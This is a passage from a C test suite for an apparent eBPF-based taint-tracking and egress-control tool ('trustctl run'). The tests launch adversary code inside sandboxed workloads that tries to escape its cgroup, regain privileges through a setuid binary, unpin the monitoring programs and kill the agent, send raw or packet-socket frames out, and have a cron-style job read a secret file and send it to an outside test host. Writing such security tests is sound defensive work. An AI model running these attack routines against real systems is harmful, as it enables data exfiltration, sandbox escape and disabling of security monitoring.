				       CAP_NET_RAW, 0, 0)));
	say("nnp", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
	say("uid", getuid());
	say("euid", geteuid());
	say("gid", getgid());
	say("groups", getgroups(0, NULL));
	status_line("Cap");
}

/* Taints itself, deletes every pinned link it can find, connects out. */
static void act_unpin(const char *pin_dir, const char *secret)
{
	char dir[1024], path[1400];
	struct dirent *de;
	int n = 0, failed = 0;
	DIR *d;

	say("open", do_open(secret));
	snprintf(dir, sizeof(dir), "%s/links", pin_dir);
	d = opendir(dir);
	say("opendir", d ? 0 : errno);
	while (d && (de = readdir(d))) {
		if (de->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
		if (unlink(path))
			failed = errno;
		else
			n++;
	}
	if (d)
		closedir(d);
	say("unpinned", n);
	say("unpin_errno", failed);
	/* The agent holds the links while it runs: stop it (same uid). */
	if (getenv("TN_ADV_PID"))
		say("kill", kill(atoi(getenv("TN_ADV_PID")), SIGKILL) ? errno : 0);
	usleep(300 * 1000);
	say("connect", adv_connect(OUT4));
}

__attribute__((constructor)) static void adversary(void)
{
	const char *act = getenv("TN_ADV_ACT");
	const char *arg = getenv("TN_ADV_ARG") ?: "";
	const char *arg2 = getenv("TN_ADV_ARG2") ?: "";

	if (!act)
		return;
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (!strcmp(act, "escape")) {
		act_escape(arg, arg2);
	} else if (!strcmp(act, "fds")) {
		act_fds(arg);
	} else if (!strcmp(act, "privs")) {
		act_privs();
	} else if (!strcmp(act, "exec")) {
		/* Run arg (a setuid-root copy of this binary) as "privs". */
		setenv("TN_ADV_ACT", "privs", 1);
		execl(arg, arg, (char *)NULL);
		say("exec", errno);
	} else if (!strcmp(act, "unpin")) {
		act_unpin(arg, arg2);
	} else if (!strcmp(act, "touch")) {
		write_file(arg, "ran\n");
	}
	fflush(stdout);
	_exit(0);
}

/* The value of key=... in the attacker's output, or -1. */
static long field(const char *out, const char *key)
{
	char pat[64];
	const char *p;

	snprintf(pat, sizeof(pat), "\n%s=", key);
	p = strstr(out, pat);
	if (!p && !strncmp(out, pat + 1, strlen(pat + 1)))
		p = out - 1;
	return p ? strtol(p + strlen(pat), NULL, 10) : -1;
}

/* A capability set line of /proc/self/status ("CapEff:\t..."), as bits. */
static unsigned long long capset_of(const char *out, const char *which)
{
	const char *p = strstr(out, which);

	return p ? strtoull(p + strlen(which) + 1, NULL, 16) : ~0ULL;
}

#define DROPPED ((1ULL << CAP_SYS_ADMIN) | (1ULL << CAP_BPF) | (1ULL << CAP_PERFMON) | \
		 (1ULL << CAP_NET_ADMIN) | (1ULL << CAP_NET_RAW) | (1ULL << CAP_SYS_MODULE) | \
		 (1ULL << CAP_SYS_PTRACE) | (1ULL << CAP_SYS_RAWIO) | (1ULL << CAP_MKNOD) | \
		 (1ULL << CAP_SYS_BOOT))

struct launch {
	const char *opts;	/* trustctl run options, space separated */
	const char *act, *arg, *arg2;
	pid_t pid;		/* TN_ADV_PID: a process the attack targets */
	int hold_socket;	/* fd 9: a connection to OUT4:PORT made outside */
	const char *hold_file;	/* fd 8: this file, opened outside */
};

static const char *self_exe(void)
{
	static char path[4096];

	if (!path[0] && readlink("/proc/self/exe", path, sizeof(path) - 1) < 0)
		return "/proc/self/exe";
	return path;
}

/*
 * Runs this binary as l->act under trustctl run --workload wl, from the
 * workload network namespace. Returns trustctl's exit status; its output
 * (the attacker's and trustctl's) goes to out.
 */
static int launch(struct tn_node *n, const struct launch *l, char *out, size_t len)
{
	char bin[512], opts[512], *argv[32], *p, *save = NULL;
	int pfd[2], argc = 0, st;
	size_t got = 0;
	ssize_t r;
	pid_t pid;

	snprintf(bin, sizeof(bin), "%s/trustctl", tn_build());
	snprintf(opts, sizeof(opts), "%s", l->opts ?: "");
	argv[argc++] = bin;
	argv[argc++] = "run";
	argv[argc++] = "--workload";
	argv[argc++] = "wl";
	for (p = strtok_r(opts, " ", &save); p && argc < 28; p = strtok_r(NULL, " ", &save))
		argv[argc++] = p;
	argv[argc++] = "--";
	argv[argc++] = (char *)self_exe();
	argv[argc] = NULL;
	if (pipe(pfd))
		return -1;
	pid = fork();
	if (pid < 0)
		return -1;
	if (pid == 0) {
		int z = open("/dev/null", O_RDONLY);

		dup2(z, 0);
		dup2(pfd[1], 1);
		dup2(pfd[1], 2);
		close(pfd[0]);
		close(pfd[1]);
		if (join_netns(n->ns_wl))
			_exit(240);
		if (l->hold_socket) {
			struct sockaddr_storage ss;
			socklen_t sl;
			int s;

			sockaddr_of(OUT4, PORT, &ss, &sl);
			s = socket(AF_INET, SOCK_STREAM, 0);
			if (s < 0 || connect(s, (struct sockaddr *)&ss, sl) || dup2(s, 9) != 9)
				_exit(241);
		}
		if (l->hold_file) {
			int f = open(l->hold_file, O_RDONLY);

			if (f < 0 || dup2(f, 8) != 8)
				_exit(242);
		}
		setenv("TRUSTNODE_SOCKET", n->socket, 1);
		setenv("TN_ADV_ACT", l->act, 1);
		setenv("TN_ADV_ARG", l->arg ?: "", 1);
		setenv("TN_ADV_ARG2", l->arg2 ?: "", 1);
		if (l->pid) {
			char num[16];

			snprintf(num, sizeof(num), "%d", l->pid);
			setenv("TN_ADV_PID", num, 1);
		}
		execv(bin, argv);
		_exit(243);
	}
	close(pfd[1]);
	while (got + 1 < len && (r = read(pfd[0], out + got, len - got - 1)) > 0)
		got += r;
	out[got] = '\0';
	close(pfd[0]);
	if (waitpid(pid, &st, 0) != pid || !WIFEXITED(st))
		return -1;
	return WEXITSTATUS(st);
}

/* Whether the listener has a connection waiting or got any byte. */
static int listener_received(int listener)
{
	struct pollfd p = { .fd = listener, .events = POLLIN };
	char buf[256];
	int c;

	if (poll(&p, 1, 300) <= 0)
		return 0;
	c = accept4(listener, NULL, NULL, SOCK_NONBLOCK);
	if (c < 0)
		return 0;
	p.fd = c;
	poll(&p, 1, 300);
	recv(c, buf, sizeof(buf), MSG_DONTWAIT);
	close(c);
	return 1;
}

/* ---- the cgroup namespace, and nsdelegate ---- */

/* cgroup2's mount point and whether nsdelegate is on; also its MS_ flags. */
static int nsdelegate_state(char *mnt, size_t n, unsigned long *flags)
{
	char dev[256], dir[1024], type[64], opts[1024];
	FILE *f = fopen("/proc/self/mounts", "r");
	int on = -1;

	*flags = 0;
	while (f && fscanf(f, "%255s %1023s %63s %1023s %*[^\n]", dev, dir, type, opts) == 4) {
		if (strcmp(type, "cgroup2"))
			continue;
		snprintf(mnt, n, "%s", dir);
		on = strstr(opts, "nsdelegate") != NULL;
		if (strstr(opts, "nosuid"))
			*flags |= MS_NOSUID;
		if (strstr(opts, "nodev"))
			*flags |= MS_NODEV;
		if (strstr(opts, "noexec"))
			*flags |= MS_NOEXEC;
		break;
	}
	if (f)
		fclose(f);
	return on;
}

/*
 * A root process outside every workload, in the host's mount namespace,
 * holding no more capabilities than trustctl run leaves a workload: one
 * whose /proc/PID/root the workload may enter (same uid, capabilities a
 * subset of its own). Returns its pid; it waits to be killed.
 */
static pid_t weak_root_process(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		struct __user_cap_header_struct h = { _LINUX_CAPABILITY_VERSION_3, 0 };
		struct __user_cap_data_struct d[2];
		int cap;

		for (cap = 0; cap < 64; cap++)
			if (DROPPED & (1ULL << cap))
				prctl(PR_CAPBSET_DROP, cap, 0, 0, 0);
		syscall(SYS_capget, &h, d);
		d[0].permitted &= ~(__u32)DROPPED;
		d[1].permitted &= ~(__u32)(DROPPED >> 32);
		d[0].effective = d[0].permitted;
		d[1].effective = d[1].permitted;
		d[0].inheritable = d[1].inheritable = 0;
		syscall(SYS_capset, &h, d);
		pause();
		_exit(0);
	}
	usleep(100 * 1000);
	return pid;
}

/*
 * Attack: root in the workload, tainted, writes its pid into an untainted
 * workload's cgroup.procs: by the path it sees, through the init process's
 * root (/proc/1/root), and through the root of a root process it may
 * enter (see weak_root_process); then connects out.
 */
static void escape_attack(struct tn_node *n, char *out, size_t len, pid_t weak)
{
	char targets[2048];

	snprintf(targets, sizeof(targets),
		 "%s/cgroup.procs:/proc/1/root%s/cgroup.procs:/proc/%d/root%s/cgroup.procs",
		 n->wl2_cg, n->wl2_cg, weak, n->wl2_cg);
	launch(n, &(struct launch){ .act = "escape", .arg = targets,
				    .arg2 = data(n, "secret") }, out, len);
}

/*
 * This test turns nsdelegate on for the whole cgroup2 hierarchy when it
 * finds it off (mount -o remount,nsdelegate), and puts it back as it found
 * it right after the attack (a remount without the option turns it off).
 */
TEST_F_TIMEOUT(node, root_in_trustctl_run_cannot_leave_its_cgroup_with_nsdelegate, 180)
{
	char mnt[1024], out[8192] = "";
	unsigned long flags;
	int was = nsdelegate_state(mnt, sizeof(mnt), &flags), now;
	pid_t weak = weak_root_process();

	ASSERT_LE(0, was);
	if (!was)
		ASSERT_EQ(0, run_cmd("mount -o remount,nsdelegate %s", mnt));
	now = nsdelegate_state(mnt, sizeof(mnt), &flags);
	if (now == 1)
		escape_attack(&self->n, out, sizeof(out), weak);
	if (!was)
		ASSERT_EQ(0, mount(NULL, mnt, NULL, MS_REMOUNT | flags, ""));
	kill(weak, SIGKILL);
	waitpid(weak, NULL, 0);
	ASSERT_EQ(was, nsdelegate_state(mnt, sizeof(mnt), &flags));
	ASSERT_EQ(1, now);

	EXPECT_EQ(0, field(out, "open")) TH_LOG("%s", out);
	EXPECT_NE(0, field(out, "escape0"));
	EXPECT_NE(0, field(out, "escape1"));
	EXPECT_NE(0, field(out, "escape2"));
	EXPECT_EQ(EPERM, field(out, "connect"));
	EXPECT_FALSE(listener_received(self->listeners[0]));
	EXPECT_STREQ("phi", taint_of(&self->n, "wl"));
	/*
	 * lsm mode judges the write before the kernel refuses it (nsdelegate):
	 * a write into another workload's cgroup.procs taints that workload
	 * even when the move then fails. Over-tainting, never under-.
	 */
	if (node_sees_lsm_hooks(&self->n) || lsm_expected()) {
		EXPECT_STREQ("phi", taint_of(&self->n, "wl2"));
	} else {
		EXPECT_STREQ("-", taint_of(&self->n, "wl2"));
	}
	EXPECT_NE(0, run_cmd("grep -q . %s/cgroup.procs", self->n.wl2_cg));
}

/*
 * Without nsdelegate, trustctl run's own mount namespace still hides every
 * cgroup outside the workload, and /proc/1/root is closed to it (the init
 * process holds capabilities the workload lacks); what remains is the
 * listed gap: the root of a root process with no more capabilities.
 */
TEST_F_TIMEOUT(node, without_nsdelegate_leaving_the_cgroup_is_a_listed_gap, 180)
{
	char mnt[1024], out[8192];
	unsigned long flags;
	pid_t weak;

	if (nsdelegate_state(mnt, sizeof(mnt), &flags) != 0)
		SKIP(return, "cgroup2 is mounted with nsdelegate here: no such gap");
	weak = weak_root_process();
	escape_attack(&self->n, out, sizeof(out), weak);
	kill(weak, SIGKILL);
	waitpid(weak, NULL, 0);
	/* The launcher says so, and so does trustctl status. */
	EXPECT_NE(NULL, strstr(out, "without nsdelegate")) TH_LOG("%s", out);
	EXPECT_TRUE(gap_listed(&self->n, "nsdelegate"));
	EXPECT_EQ(ENOENT, field(out, "escape0")) TH_LOG("%s", out);
	EXPECT_EQ(EACCES, field(out, "escape1"));
	/* The gap is real: that write moved the process. */
	EXPECT_EQ(0, field(out, "escape2"));
}

/* ---- descriptors ---- */

TEST_F_TIMEOUT(node, descriptors_from_outside_the_workload_are_not_inherited, 180)
{
	struct pollfd p = { .fd = self->listeners[0], .events = POLLIN };
	char out[8192], buf[256];
	int rc, c;

	rc = launch(&self->n, &(struct launch){ .act = "fds", .arg = data(&self->n, "secret"),
		    .hold_socket = 1, .hold_file = data(&self->n, "plain") },
		    out, sizeof(out));
	ASSERT_EQ(0, rc) TH_LOG("%s", out);
	EXPECT_EQ(0, field(out, "open")) TH_LOG("%s", out);
	EXPECT_NE(NULL, strstr(out, "fds=0,1,2\n")) TH_LOG("%s", out);
	EXPECT_EQ(EBADF, field(out, "write9"));
	/* The connection was made (outside the workload) and carried nothing. */
	ASSERT_EQ(1, poll(&p, 1, 1000));
	c = accept(self->listeners[0], NULL, NULL);
	ASSERT_LE(0, c);
	EXPECT_GE(0, recv(c, buf, sizeof(buf), MSG_DONTWAIT));
	close(c);

	/* --keep-fd passes exactly the descriptors named. */
	rc = launch(&self->n, &(struct launch){ .act = "fds", .arg = data(&self->n, "plain"),
		    .opts = "--keep-fd 8", .hold_file = data(&self->n, "plain") },
		    out, sizeof(out));
	ASSERT_EQ(0, rc) TH_LOG("%s", out);
	EXPECT_NE(NULL, strstr(out, "fds=0,1,2,8\n")) TH_LOG("%s", out);
}

/* ---- privileges ---- */

TEST_F_TIMEOUT(node, root_in_trustctl_run_cannot_regain_privileges, 180)
{
	char out[8192];
	int rc;

	rc = launch(&self->n, &(struct launch){ .act = "privs" }, out, sizeof(out));
	ASSERT_EQ(0, rc) TH_LOG("%s", out);
	EXPECT_EQ(0, field(out, "uid")) TH_LOG("%s", out);
	EXPECT_EQ(EPERM, field(out, "raw4"));
	EXPECT_EQ(EPERM, field(out, "packet"));
	EXPECT_EQ(EPERM, field(out, "bpf"));
	EXPECT_EQ(EPERM, field(out, "mount"));
	EXPECT_EQ(EPERM, field(out, "unshare_net"));
	EXPECT_EQ(EPERM, field(out, "capset"));
	EXPECT_EQ(EPERM, field(out, "ambient"));
	EXPECT_EQ(1, field(out, "nnp"));
	EXPECT_EQ(0ULL, capset_of(out, "CapBnd:") & DROPPED);
	EXPECT_EQ(0ULL, capset_of(out, "CapPrm:") & DROPPED);
	EXPECT_EQ(0ULL, capset_of(out, "CapEff:") & DROPPED);
	EXPECT_EQ(0ULL, capset_of(out, "CapInh:") & DROPPED);
	EXPECT_EQ(0ULL, capset_of(out, "CapAmb:"));
	/* Root keeps the rest: it is still root, only without these. */
	EXPECT_NE(0ULL, capset_of(out, "CapEff:") & (1ULL << CAP_DAC_OVERRIDE));

	/* --cap keeps one on purpose. */
	rc = launch(&self->n, &(struct launch){ .act = "privs", .opts = "--cap net_raw" },
		    out, sizeof(out));
	ASSERT_EQ(0, rc) TH_LOG("%s", out);
	EXPECT_EQ(0, field(out, "raw4")) TH_LOG("%s", out);
	EXPECT_EQ(EPERM, field(out, "mount"));
}

TEST_F_TIMEOUT(node, user_runs_as_that_user_and_setuid_binaries_grant_nothing, 180)
{
	struct passwd *pw = getpwnam("nobody");
	char out[8192], suid[400];
	int rc;

	ASSERT_NE(NULL, pw);
	rc = launch(&self->n, &(struct launch){ .act = "privs", .opts = "--user nobody" },
		    out, sizeof(out));
	ASSERT_EQ(0, rc) TH_LOG("%s", out);
	EXPECT_EQ(pw->pw_uid, field(out, "uid")) TH_LOG("%s", out);
	EXPECT_EQ(pw->pw_uid, field(out, "euid"));
	EXPECT_EQ(pw->pw_gid, field(out, "gid"));
	EXPECT_EQ(0ULL, capset_of(out, "CapPrm:"));
	EXPECT_EQ(0ULL, capset_of(out, "CapEff:"));
	EXPECT_EQ(1, field(out, "nnp"));

	/* --cap with --user: that one capability, ambient, and no other. */
	rc = launch(&self->n, &(struct launch){ .act = "privs",
		    .opts = "--user nobody --cap CAP_NET_BIND_SERVICE" }, out, sizeof(out));
	ASSERT_EQ(0, rc) TH_LOG("%s", out);
	EXPECT_EQ(1ULL << CAP_NET_BIND_SERVICE, capset_of(out, "CapEff:")) TH_LOG("%s", out);
	EXPECT_EQ(1ULL << CAP_NET_BIND_SERVICE, capset_of(out, "CapAmb:"));

	/* A setuid-root binary the workload runs stays nobody's. */
	snprintf(suid, sizeof(suid), "%s/suid-adversary", self->n.tmp);
	ASSERT_EQ(0, run_cmd("cp %s %s && chown root:root %s && chmod 4755 %s",
			     self_exe(), suid, suid, suid));
	rc = launch(&self->n, &(struct launch){ .act = "exec", .arg = suid,
		    .opts = "--user nobody" }, out, sizeof(out));
	ASSERT_EQ(0, rc) TH_LOG("%s", out);
	EXPECT_EQ(pw->pw_uid, field(out, "euid")) TH_LOG("%s", out);
	EXPECT_EQ(0ULL, capset_of(out, "CapEff:"));
}

TEST_F_TIMEOUT(node, trustctl_run_refuses_bad_input_and_starts_nothing, 180)
{
	char out[8192], mark[400];

	snprintf(mark, sizeof(mark), "%s/ran", self->n.tmp);
	EXPECT_EQ(5, launch(&self->n, &(struct launch){ .act = "touch", .arg = mark,
			    .opts = "--user no-such-user-tn" }, out, sizeof(out)));
	EXPECT_NE(NULL, strstr(out, "no-such-user-tn")) TH_LOG("%s", out);
	EXPECT_EQ(2, launch(&self->n, &(struct launch){ .act = "touch", .arg = mark,
			    .opts = "--keep-fd 77" }, out, sizeof(out)));
	EXPECT_NE(NULL, strstr(out, "not an open descriptor")) TH_LOG("%s", out);
	EXPECT_EQ(2, launch(&self->n, &(struct launch){ .act = "touch", .arg = mark,
			    .opts = "--cap CAP_NO_SUCH" }, out, sizeof(out)));
	EXPECT_EQ(2, launch(&self->n, &(struct launch){ .act = "touch", .arg = mark,
			    .opts = "--keep-fd 1" }, out, sizeof(out)));
	EXPECT_NE(0, access(mark, F_OK));
	/* No run cgroup was left behind. */
	EXPECT_NE(0, run_cmd("ls -d %s/run.* >/dev/null 2>&1", self->n.wl_cg));
	/* And the same command with good input does run. */
	EXPECT_EQ(0, launch(&self->n, &(struct launch){ .act = "touch", .arg = mark },
			    out, sizeof(out))) TH_LOG("%s", out);
	EXPECT_EQ(0, access(mark, F_OK));
}

/*
 * Attack: root in the workload deletes trustnode's pinned links under
 * /sys/fs/bpf (the pins are root's files), which detaches the programs
 * when nothing else holds them, then connects out.
 */
TEST_F_TIMEOUT(node, root_in_trustctl_run_cannot_unpin_the_programs, 180)
{
	char out[8192];
	int rc;

	rc = launch(&self->n, &(struct launch){ .act = "unpin", .arg = self->n.pin,
		    .arg2 = data(&self->n, "secret"), .pid = self->n.agent }, out, sizeof(out));
	ASSERT_EQ(0, rc) TH_LOG("%s", out);
	EXPECT_EQ(0, field(out, "open")) TH_LOG("%s", out);
	EXPECT_EQ(0, field(out, "unpinned")) TH_LOG("%s", out);
	EXPECT_EQ(EPERM, field(out, "connect"));
	EXPECT_FALSE(listener_received(self->listeners[0]));
	EXPECT_EQ(EPERM, ACT(&self->n, self->n.wl_cg, .connect = OUT4));
}

/* ---- raw, packet and vsock sockets ---- */

/*
 * The outside host's ears: a packet socket on its end of the veth that
 * sees every frame arriving there, whatever the protocol or address.
 */
static int make_sniffer(void *ifname)
{
	struct sockaddr_ll ll = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL) };
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));

	ll.sll_ifindex = if_nametoindex(ifname);
	if (fd >= 0 && (!ll.sll_ifindex || bind(fd, (struct sockaddr *)&ll, sizeof(ll)))) {
		close(fd);
		fd = -1;
	}
	return fd;
}

static int out_sniffer(struct tn_node *n)
{
	char ifname[48];

	snprintf(ifname, sizeof(ifname), "o%s", n->id);
	return fd_in_netns(n->ns_out, make_sniffer, ifname);
}

/* Whether a frame carrying magic reached the outside host. */
static int sniffed(int fd, const char *magic)
{
	char buf[2048];
	ssize_t r;
	int seen = 0;

	usleep(300 * 1000);
	while ((r = recv(fd, buf, sizeof(buf), MSG_DONTWAIT)) > 0)
		if (memmem(buf, r, magic, strlen(magic)))
			seen = 1;
	return seen;
}

static uint16_t csum(const void *p, size_t len)
{
	const uint16_t *w = p;
	uint32_t sum = 0;

	for (; len > 1; len -= 2)
		sum += *w++;
	if (len)
		sum += *(const uint8_t *)w;
	sum = (sum >> 16) + (sum & 0xffff);
	return ~(sum + (sum >> 16));
}

struct raw_attack {
	const char *secret;	/* opened first (taint), unless NULL */
	int family, type, proto;
	int open_before_taint;	/* the socket is made, then the secret read */
	int connect_out;	/* raw: connected to OUT4 before the taint */
	int header_local;	/* raw: the header names LOCAL4, an allowed address */
	const char *magic;	/* sent to OUT4:PORT when the socket exists */
};

/*
 * A raw IPv4 packet with its own header (IP_HDRINCL), UDP to OUT4:PORT, or
 * a frame for an AF_PACKET socket. Never anything on a vsock socket: its
 * other end is the real hypervisor, not a host the test made.
 */
static int raw_send(int fd, const struct raw_attack *a)
{
	char pkt[128] = { 0 };
	struct iphdr *ip = (struct iphdr *)pkt;
	struct udphdr *udp = (struct udphdr *)(ip + 1);
	size_t plen = strlen(a->magic), len = sizeof(*ip) + sizeof(*udp) + plen;
	struct sockaddr_in to = { .sin_family = AF_INET };

	if (a->family == AF_PACKET) {
		struct sockaddr_ll ll = { .sll_family = AF_PACKET, .sll_halen = 6,
					  .sll_protocol = htons(ETH_P_IP) };
		struct if_nameindex *ifs = if_nameindex(), *i;

		/* The workload's end of the veth: the only interface but lo. */
		for (i = ifs; i && i->if_index; i++)
			if (i->if_name[0] == 'v')
				ll.sll_ifindex = i->if_index;
		if_freenameindex(ifs);
		memset(ll.sll_addr, 0xff, 6);
		return sendto(fd, a->magic, plen, 0, (struct sockaddr *)&ll, sizeof(ll)) < 0 ? errno : 0;
	}
	ip->version = 4;
	ip->ihl = 5;
	ip->ttl = 64;
	ip->protocol = IPPROTO_UDP;
	ip->tot_len = htons(len);
	inet_pton(AF_INET, "203.0.113.1", &ip->saddr);
	inet_pton(AF_INET, a->header_local ? LOCAL4 : OUT4, &ip->daddr);
	ip->check = csum(ip, sizeof(*ip));
	udp->source = htons(40000);
	udp->dest = htons(PORT);
	udp->len = htons(sizeof(*udp) + plen);
	memcpy(udp + 1, a->magic, plen);
	if (a->connect_out)
		return send(fd, pkt, len, 0) < 0 ? errno : 0;
	to.sin_addr.s_addr = ip->daddr;
	return sendto(fd, pkt, len, 0, (struct sockaddr *)&to, sizeof(to)) < 0 ? errno : 0;
}

/* Returns 0 when the socket was made and used, else 100 + errno of socket(). */
static int raw_attack(void *arg)
{
	const struct raw_attack *a = arg;
	int fd = -1, one = 1, ret;

	if (a->open_before_taint)
		fd = socket(a->family, a->type, a->proto);
	if (a->connect_out && fd >= 0) {
		struct sockaddr_storage ss;
		socklen_t sl;

		sockaddr_of(OUT4, 0, &ss, &sl);
		if (connect(fd, (struct sockaddr *)&ss, sl))
			return 252;
	}
	if (a->secret && do_open(a->secret))
		return 254;
	if (!a->open_before_taint)
		fd = socket(a->family, a->type, a->proto);
	if (fd < 0)
		return 100 + errno;
	if (a->family == AF_INET && a->type == SOCK_RAW)
		setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one));
	ret = a->magic ? raw_send(fd, a) : 0;
	close(fd);
	return ret ? 50 : 0;
}

#define RAW(n, cg, ...) in_cgroup(n, cg, raw_attack, &(struct raw_attack){ __VA_ARGS__ })

/*
 * Attack: a tainted root workload that still holds CAP_NET_RAW (started
 * without trustctl run) writes its own IPv4 header and sends a packet to
 * the outside host. Refused at socket(), in both modes.
 */
TEST_F_TIMEOUT(node, a_tainted_workload_cannot_open_raw_ip_sockets, 180)
{
	int sniff = out_sniffer(&self->n);

	ASSERT_LE(0, sniff);
	ASSERT_TRUE(node_sees_lsm_hooks(&self->n) || !lsm_expected());
	/* The control: untainted, the same packet reaches the outside host. */
	EXPECT_EQ(0, RAW(&self->n, self->n.wl2_cg, .family = AF_INET, .type = SOCK_RAW,
			 .proto = IPPROTO_RAW, .magic = MAGIC "-control"));
	EXPECT_TRUE(sniffed(sniff, MAGIC "-control"));

	EXPECT_EQ(100 + EPERM, RAW(&self->n, self->n.wl_cg, .secret = data(&self->n, "secret"),
				   .family = AF_INET, .type = SOCK_RAW, .proto = IPPROTO_RAW,
				   .magic = MAGIC));
	EXPECT_EQ(100 + EPERM, RAW(&self->n, self->n.wl_cg, .family = AF_INET,
				   .type = SOCK_RAW, .proto = IPPROTO_UDP, .magic = MAGIC));
	EXPECT_EQ(100 + EPERM, RAW(&self->n, self->n.wl_cg, .family = AF_INET6,
				   .type = SOCK_RAW, .proto = IPPROTO_UDP));
	EXPECT_FALSE(sniffed(sniff, MAGIC));
	EXPECT_STREQ("phi", taint_of(&self->n, "wl"));
	EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"socket\"", "\"decision\":\"deny\"",
			      "\"workload\":\"wl\""));
	/* An untainted workload still may. */
	EXPECT_EQ(0, RAW(&self->n, self->n.wl2_cg, .family = AF_INET6, .type = SOCK_RAW,
			 .proto = IPPROTO_UDP));
	close(sniff);
}

/*
 * A raw socket opened before the taint: its IP packets pass the egress
 * program (cgroup_skb), and in lsm mode socket_sendmsg, on the way out.
 */
TEST_F_TIMEOUT(node, a_raw_socket_opened_before_the_taint_sends_nothing_out, 180)
{
	int sniff = out_sniffer(&self->n);

	ASSERT_LE(0, sniff);
	RAW(&self->n, self->n.wl_cg, .secret = data(&self->n, "secret"), .open_before_taint = 1,
	    .family = AF_INET, .type = SOCK_RAW, .proto = IPPROTO_RAW, .magic = MAGIC);
	EXPECT_STREQ("phi", taint_of(&self->n, "wl"));
	EXPECT_FALSE(sniffed(sniff, MAGIC));
	close(sniff);
}

/*
 * AF_PACKET: lsm mode refuses the socket (socket_create); cgroup mode has
 * no hook that sees it (cgroup/sock_create runs for inet sockets only), so
 * the frame gets out: the listed gap, whose mitigation is trustctl run
 * (no CAP_NET_RAW).
 */
TEST_F_TIMEOUT(node, packet_sockets_are_refused_in_lsm_mode_and_a_listed_gap_otherwise, 180)
{
	int sniff = out_sniffer(&self->n), rc;

	ASSERT_LE(0, sniff);
	ASSERT_TRUE(node_sees_lsm_hooks(&self->n) || !lsm_expected());
	rc = RAW(&self->n, self->n.wl_cg, .secret = data(&self->n, "secret"),
		 .family = AF_PACKET, .type = SOCK_DGRAM, .proto = htons(ETH_P_IP),
		 .magic = MAGIC);
	if (node_sees_lsm_hooks(&self->n)) {
		EXPECT_EQ(100 + EPERM, rc);
		EXPECT_FALSE(sniffed(sniff, MAGIC));
		EXPECT_EQ(100 + EPERM, RAW(&self->n, self->n.wl_cg, .family = AF_PACKET,
					   .type = SOCK_RAW, .proto = htons(ETH_P_ALL)));
	} else {
		EXPECT_EQ(0, rc);
		EXPECT_TRUE(sniffed(sniff, MAGIC));
		EXPECT_TRUE(gap_listed(&self->n, "AF_PACKET"));
	}
	close(sniff);
}

/*
 * Sockets made before the taint: lsm mode refuses every send on a packet
 * socket, and on a raw socket connected to the outside host whose header
 * names an allowed address (IP_HDRINCL); cgroup mode sees neither.
 */
TEST_F_TIMEOUT(node, sends_on_packet_and_raw_sockets_from_before_the_taint, 180)
{
	int sniff = out_sniffer(&self->n), rc, rc2, got, got2;

	ASSERT_LE(0, sniff);
	ASSERT_TRUE(node_sees_lsm_hooks(&self->n) || !lsm_expected());
	rc = RAW(&self->n, self->n.wl_cg, .secret = data(&self->n, "secret"),
		 .open_before_taint = 1, .family = AF_PACKET, .type = SOCK_DGRAM,
		 .proto = htons(ETH_P_IP), .magic = MAGIC "-packet");
	got = sniffed(sniff, MAGIC "-packet");
	/* wl is tainted now: wl2 makes its socket before its own taint. */
	rc2 = RAW(&self->n, self->n.wl2_cg, .secret = data(&self->n, "secret"),
		  .open_before_taint = 1, .connect_out = 1, .header_local = 1,
		  .family = AF_INET, .type = SOCK_RAW, .proto = IPPROTO_RAW,
		  .magic = MAGIC "-hdrincl");
	got2 = sniffed(sniff, MAGIC "-hdrincl");
	close(sniff);
	if (node_sees_lsm_hooks(&self->n)) {
		EXPECT_EQ(50, rc);
		EXPECT_EQ(50, rc2);
		EXPECT_FALSE(got);
		EXPECT_FALSE(got2);
	} else {
		/* Both frames reach the outside host's interface. */
		EXPECT_EQ(0, rc);
		EXPECT_TRUE(got);
		EXPECT_EQ(0, rc2);
		EXPECT_TRUE(got2);
		EXPECT_TRUE(gap_listed(&self->n, "AF_PACKET"));
		EXPECT_TRUE(gap_listed(&self->n, "IP_HDRINCL"));
	}
}

TEST_F_TIMEOUT(node, vsock_sockets_are_refused_in_lsm_mode_and_a_listed_gap_otherwise, 180)
{
	int rc;

	ASSERT_TRUE(node_sees_lsm_hooks(&self->n) || !lsm_expected());
	/* Only socket(): nothing is sent, there is no test host behind it. */
	rc = RAW(&self->n, self->n.wl_cg, .secret = data(&self->n, "secret"),
		 .family = AF_VSOCK, .type = SOCK_STREAM);
	if (node_sees_lsm_hooks(&self->n)) {
		EXPECT_EQ(100 + EPERM, rc);
	} else {
		/* Made, or this kernel has no vsock transport: not refused. */
		EXPECT_NE(100 + EPERM, rc);
		EXPECT_TRUE(gap_listed(&self->n, "AF_VSOCK"));
	}
}

/* ==== outsourcing: code run outside every workload ====================== */

/*
 * The workload had a crontab entry, an at job or an rc file run for it:
 * code in no workload (below trustnoded's cgroup, or outside it, as cron's
 * own cgroup would be) that reads a tagged file and sends what it read to
 * the outside host. Returns 0 when it sent, the open's errno when the open
 * failed, 200 + the connect's errno when that failed.
 */
static int cron_job(void *path)
{
	char buf[256];
	ssize_t r;
	int fd = open(path, O_RDONLY | O_CLOEXEC), s, ret;
	struct sockaddr_storage ss;
	socklen_t len;

	if (fd < 0)
		return errno;
	r = read(fd, buf, sizeof(buf));
	close(fd);
	if (r <= 0)
		return 250;
	sockaddr_of(OUT4, PORT, &ss, &len);
	s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (s < 0)
		return 251;
	ret = connect(s, (struct sockaddr *)&ss, len) ? 200 + errno : 0;
	if (!ret && send(s, buf, r, MSG_NOSIGNAL) != r)
		ret = 252;
	close(s);
	return ret;
}

/* What the outside listener got on one connection ("" if none). */
static const char *listener_got(int listener)
{
	static char buf[256];
	struct pollfd p = { .fd = listener, .events = POLLIN };
	ssize_t r = 0;
	int c;

	buf[0] = '\0';
	if (poll(&p, 1, 300) <= 0)
		return buf;
	c = accept4(listener, NULL, NULL, SOCK_NONBLOCK);
	if (c < 0)
		return buf;
	p.fd = c;
	if (poll(&p, 1, 1000) > 0)
		r = recv(c, buf, sizeof(buf) - 1, 0);
